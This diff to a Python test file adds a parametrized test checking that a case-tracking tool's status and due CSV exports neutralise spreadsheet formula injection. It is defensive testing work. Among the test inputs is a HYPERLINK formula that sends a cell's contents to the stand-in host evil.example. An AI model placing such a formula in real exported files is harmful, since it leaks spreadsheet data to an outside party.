@@ -214,3 +214,23 @@ def test_a_case_file_that_is_a_fifo_or_a_device_is_refused_not_hung(project_dir:
     # a folder of cases skips what is not a file, and says nothing of it
     proc = command("validate", ".", cwd=project_dir, timeout=10)
     assert proc.returncode == 0, proc.stderr
+
+
+# ---------------------------------------------------------------- 12: no formula in status --csv, due --csv
+
+@pytest.mark.parametrize("ref", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+                                 "\tx", "\rx"])
+@pytest.mark.parametrize("name", ["status", "due"])
+def test_a_reference_that_is_a_formula_is_text_in_the_csv(project: Path, ref: str, name: str) -> None:
+    code, output = run("filed", "c1.yaml", "--lang", "kk", "--on", "2026-11-03T10:00", "--channel", "eotinish",
+                       "--ref", ref)
+    assert code == 0, output
+    result = runner.invoke(app, [*COMMANDS[name], "--csv", *(["--within", "20"] if name == "due" else [])])
+    assert result.exit_code == 0, result.output
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
+    cells = [row[3] for row in rows[1:] if row[1] == "kk"]
+    assert cells == ["'" + ref], result.stdout
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
